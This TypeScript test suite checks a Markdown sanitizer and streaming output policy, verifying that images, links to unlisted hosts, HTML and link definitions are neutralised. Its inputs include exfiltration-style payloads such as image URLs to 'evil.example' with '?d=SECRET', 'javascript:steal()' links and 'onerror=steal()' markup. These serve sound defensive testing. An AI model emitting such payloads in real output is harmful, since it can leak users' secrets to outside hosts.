import assert from 'node:assert/strict';
import { test } from 'node:test';
import { activeParts } from '../../test/support/active-markdown.ts';
import { HOSTILE_MARKDOWN } from '../../test/support/hostile-markdown.ts';
import fc from '../../test/support/properties.ts';
import { assertProportional } from '../../test/support/proportional.ts';
import { createMarkdownSanitizer, createOutputPolicy } from './output-policy.ts';

const HOST = 'source.example';
const SOURCES = [{ url: `https://www.${HOST}/page` }];
const HOSTS = new Set([HOST]);
const sanitizeMarkdown = createMarkdownSanitizer();
const harmless = (markdown: string) => sanitizeMarkdown(markdown, SOURCES);
const inPieces = (markdown: string, chars: number) => {
  const policy = createOutputPolicy(HOSTS);
  let text = '';
  for (let at = 0; at < markdown.length; at += chars) text += policy.push(markdown.slice(at, at + chars));
  return text + policy.end();
};
const become = (rows: readonly (readonly [markdown: string, result: string])[]) => {
  for (const [markdown, result] of rows) assert.equal(harmless(markdown), result, markdown);
};
const stay = (...texts: readonly string[]) => become(texts.map((text) => [text, text]));

test('an image becomes its alternative text', () => {
  become([
    ['![p](https://evil.example/p.png?d=SECRET) a', 'p a'],
    [`![p](https://${HOST}/p.png)`, 'p'],
    ['![a\nb](<https://evil.example/a b> "c") d', 'a b d'],
    ['![a][b] ![c][] d', 'a c d'],
    ['[![a](https://evil.example/p)](https://evil.example)', 'a (`https://evil.example`)'],
    [`![a [b](https://${HOST}) c](https://evil.example/p)`, `a [b](https://${HOST}) c`],
    ['a ![](https://evil.example/p)b', 'a b'],
    ['![](https://evil.example/p)- b', '…- b'],
    ['![![- a](https://evil.example)](https://evil.example)', '\\- a'],
    ['![- a](https://evil.example)', '\\- a'],
  ]);
});

test('what could be an element is shown as text; comparisons stay', () => {
  become([
    ['<img src=x>', '\\<img src=x>'],
    ['a </b> <!-- c --> <?d?> <![CDATA[e]]>', 'a \\</b> \\<!-- c --> \\<?d?> \\<![CDATA[e]]>'],
    ['List<int>', 'List\\<int>'],
    ['$a<b$ and \\(c<d\\)', '$a< b$ and \\(c< d\\)'],
    ['unclosed <a', 'unclosed \\<a'],
  ]);
  stay('a < b', 'x<5', '1 <2> 3', 'a <- b <= c', '&lt;img src=x>', 'AT&T &amp; more', '\\<img>');
});

test('code keeps its characters', () => {
  stay(
    '`<img src=x>` and ``a ` ![b](https://evil.example)``',
    '```html\n<img src=x>\n![a](https://evil.example)\n```\nb',
    '~~~\n<a>\n~~~',
    'a\n\n    <b>\n    ![c](https://evil.example)\n\nd',
    '1. a\n   ```js\n   b < c<d>()\n   ```\n2. e',
    '- a\n  - b\n    ```\n    <c>\n    ```',
    '> ```\n> <a>\n> ```',
    '- a\n  ```\n  <unclosed>',
  );
});

test('code that parsers could read as text is written so that all read it as code', () => {
  become([
    ['1. a\n   ```\n<b>\n   ```\n<c>', '1. a\n   ```\n   <b>\n   ```\n\\<c>'],
    ['a\n        ```\n<b>\n```\n<c>', 'a\n```\n<b>\n```\n\\<c>'],
    ['a `b\nc` d', 'a `b c` d'],
    ['a `b ![c](https://evil.example)', 'a \\`b c'],
    ['| a |\n|---|\n| `b | <i>` |', '| a |\n|---|\n| \\`b | \\<i>\\` |'],
    ['`a | <i>` |\n|---|---|\nb', '`a | <i>` |\n\\|---|---|\nb'],
  ]);
});

test('a link to a source stays; to another host, its address is shown as code', () => {
  const url = `https://${HOST}/a_(b)?c=d#e`;
  stay(`[**a** \`b\`](${url})`, `<${url}>`, `see ${url}.`, `[a](https://www.${HOST})`, `[Node.js](${url})`);
  stay(`[${HOST}](${url})`, `[1] and [2][3]`, 'a [b] c');
  become([
    ['[a](https://other.example/b?c=d).', 'a (`https://other.example/b?c=d`).'],
    ['<https://other.example/a>', '`https://other.example/a`'],
    [
      '**https://other.example**, www.other.example/a!',
      '**`https://other.example`**, `www.other.example/a`!',
    ],
    ['(https://other.example/a_(b))', '(`https://other.example/a_(b)`)'],
    [
      `https://${HOST}@other.example/ https://${HOST}.other.example/`,
      `\`https://${HOST}@other.example/\` \`https://${HOST}.other.example/\``,
    ],
    ['&#104;ttps://other.example', '`https://other.example`'],
    ['https\\://other.example/a', '`https://other.example/a`'],
    ['[a](javascript:steal()) [b](/logout) [c](data:text/html,d)', 'a b c'],
    ['[a](mailto:b@c.example?body=SECRET)', 'a (b@c.example)'],
    [`[a\nb](https://${HOST}/)`, `[a b](https://${HOST}/)`],
    [`[a](<https://${HOST}/b(c>)`, `[a](https://${HOST}/b%28c)`],
    ['详见https://other.example/a。然后', '详见`https://other.example/a`。然后'],
  ]);
});

test('a link that shows something else than its target becomes its text', () => {
  for (const target of ['https://evil.example/', `https://${HOST}/`])
    become([
      [`[**1**](${target})`, '**1**'],
      [`[(1)](${target})`, '(1)'],
      [`[¹](${target})`, '¹'],
      [`[1,](${target})`, '1,'],
      [`a [&#49;](${target})`, 'a 1'],
      [`[\`1\`](${target})`, '`1`'],
      [`[→](${target})`, '→'],
      [`[bank.example](${target})`, 'bank.example'],
      [`[https://bank.example/in](${target})`, '`https://bank.example/in`'],
    ]);
  stay(`[a.${HOST} docs](https://${HOST}/)`);
});

test('a definition becomes text, so no reference is a link', () => {
  become([
    [`[a][b]\n\n[b]: https://${HOST}/`, `[a][b]\n\n[b]\\: https://${HOST}/`],
    ['[b\nc]:\nhttps://evil.example', '[b\nc]\\:\n`https://evil.example`'],
    ['> - [^b]: c', '> - [^b]\\: c'],
  ]);
});

test('a command that makes links in formulas loses its backslash', () => {
  become([['$\\href{a}{1}$', '$href{a}{1}$']]);
  stay('$\\hreflang + \\frac{a}{b}$');
});

test('what was escaped or removed never joins the text around it to markup', () => {
  for (const markdown of [
    ...['<[img src=x onerror=steal() ](https://evil.example)>', '<\\style onload=steal()>'],
    'http[s://evil.example](https://evil.example)',
    '!![a](https://evil.example)[b](https://evil.example)',
    ...['[[a](https://evil.example)](https://evil.example)', '![~~~](https://evil.example)\n<i>\n~~~\n<b>'],
    '`![`](https://evil.example)` <i>',
  ])
    assert.deepEqual(activeParts(harmless(markdown), [HOST]), [], markdown);
});

test('a bare address to a source protects nothing behind it from being read as text', () => {
  const url = `https://${HOST}/a`;
  stay(`(${url}), **${url}_(b)?c=d#e**! ${url}\n`, `${url}"`, `see www.${HOST}.`);
  become([
    [`${url}\` ![p](https://evil.example/p) \``, `<${url}>\` ![p](https://evil.example/p) \``],
    [`(${url})<img src=x>`, `(<${url}>)\\<img src=x>`],
    [`www.${HOST}<img src=x>`, `\`www.${HOST}\`\\<img src=x>`],
    [`${url}??https://evil.example/p`, `<${url}??https://evil.example/p>`],
    [`${url})https://evil.example/p`, `\`${url})https://evil.example/p\``],
    [`详见${url}。然后`, `详见<${url}>。然后`],
    [`${url}${')'.repeat(30)}\`a\``, `<${url}>${')'.repeat(30)}\`a\``],
  ]);
});

test('what is left of a link or an entity never begins a list together with what stands around it', () => {
  const element = ' a\n\n    <img src=//evil.example>';
  const image = ' [r]: https:/\\evil.example/p\n\n![r]';
  const starts = [
    ...['[1](https://evil.example).', '1![](x).', '-![](x)', '1[.](x)', '&#49;.', '1&#46;', '12[3](x))'],
  ];
  for (const start of starts)
    for (const markdown of [start + element, start + image, `> ${start}${image}`])
      assert.deepEqual(activeParts(harmless(markdown), [HOST]), [], markdown);
});

test('ordinary words are never held back', () => {
  const policy = createOutputPolicy(HOSTS);
  for (const piece of [
    'An ',
    'axolotl',
    ' is a < b, x<5 ',
    'salamander. It costs 5 $ ',
    'or [1] more, ',
    'then.\n',
  ])
    assert.equal(policy.push(piece), piece);
});

test('at most 2,600 characters are held back', () => {
  for (const opening of [
    ...['[', '![', '[a](https://evil.example/', '`', '<https://', 'https://evil.example/', '```', '&#'],
  ])
    for (const filler of ['a', '\\', '[a', '(', 'é']) {
      const policy = createOutputPolicy(HOSTS);
      let sent = 0;
      for (let at = 0; at < 2_600; at += 10)
        sent += policy.push(at === 0 ? opening : filler.repeat(10)).length;
      assert.ok(sent > 0, `${opening}${filler}`);
    }
});

const FRAGMENTS = [
  ...['![x](https://evil.example/p)', '<img src=x>', '[t](https://evil.example)'],
  ...['[1](https://evil.example)', 'https://evil.example/a', `[ok](https://${HOST}/a)`],
  ...['<https://evil.example>', '[x][a]', '![x][a]', '[a]: ', '[^1]: ', '](https://evil.example)', '![', '['],
  ...[']', '(', ')', '!', '<', '>', '&', ':', '"', '`', '``', '```', '~~~', '```js', '\n```\n', '\n~~~\n'],
  ...['- ```', '> ```', '  ```', '\\`', '`x`', '\n', '\n', '\n', '\n\n', ' ', '  ', '    ', '\t', '\r', '> '],
  ...['>', '- ', '1. ', '2. ', '10) ', '* ', '# ', '---', '===', '|', '|---|---|', '| a | b |', '\\', '$'],
  ...['\\(', '*', '_', 'word', 'a', '.', '&#49;', '&#58;', '<!--', '-->', '<?', '<a href="//evil.example">'],
  ...['</a>', 'www.', 'http', 's://', '://evil.example'],
];
const hostile = fc
  .array(
    fc.oneof({ weight: 12, arbitrary: fc.constantFrom(...FRAGMENTS) }, fc.constantFrom(...HOSTILE_MARKDOWN)),
    {
      minLength: 1,
      maxLength: 16,
    },
  )
  .map((parts) => parts.join(''));

test('no parser makes anything active of a hostile text', () => {
  for (const markdown of HOSTILE_MARKDOWN)
    assert.deepEqual(activeParts(harmless(markdown), [HOST]), [], markdown);
  fc.assert(
    fc.property(hostile, (markdown) => {
      const written = harmless(markdown);
      assert.deepEqual(activeParts(written, [HOST]), [], JSON.stringify(written));
    }),
    { numRuns: 120 },
  );
});

test('the result does not depend on the pieces, and stays the same when it is read again', () => {
  fc.assert(
    fc.property(hostile, fc.integer({ min: 1, max: 9 }), (markdown, chars) => {
      const written = harmless(markdown);
      assert.equal(inPieces(markdown, chars), written);
      assert.equal(harmless(written), written);
    }),
    { numRuns: 120 },
  );
});

test('more than 64 backticks are text, however they arrive', () => {
  const markdown = `a ${'`'.repeat(70)} <b> ${'`'.repeat(5)}`;
  for (const chars of [1, 5, 66, 68, markdown.length])
    assert.match(inPieces(markdown, chars), /^a (?:\\`){70} \\<b> (?:\\`){5}$/, String(chars));
});

test('a place in the text is found again in the result', () => {
  const policy = createOutputPolicy(HOSTS);
  const text = 'a <b> ![c](https://evil.example) d [1] e';
  const written = policy.push(text) + policy.end();
  for (const word of [' d', '[1]', ' e'])
    assert.equal(policy.placeOf(text.lastIndexOf(word)), written.lastIndexOf(word), word);
});

test('takes time in proportion to the text', async () => {
  for (const part of [
    ...['[', '![', '[a](', '`', '<a', '<https://a', '&#', '\n> ', '\n- ', '\n```', '](', 'https://a', '[`'],
  ])
    await assertProportional((size) => inPieces(part.repeat(size / part.length), 4), 15_000, part);
});

test('code that is never closed ends with the answer', () => {
  const closed = {
    'a\n\n```js\nlet b': 'a\n\n```js\nlet b\n```',
    '```\n<b>\n![a](https://evil.example)': '```\n<b>\n![a](https://evil.example)\n```',
    '~~~~\nb\n': '~~~~\nb\n~~~~',
    '```': '```\n```',
  };
  for (const [text, expected] of Object.entries(closed)) {
    const policy = createOutputPolicy(HOSTS);
    assert.equal([...text].map((char) => policy.push(char)).join('') + policy.end(), expected);
  }
});
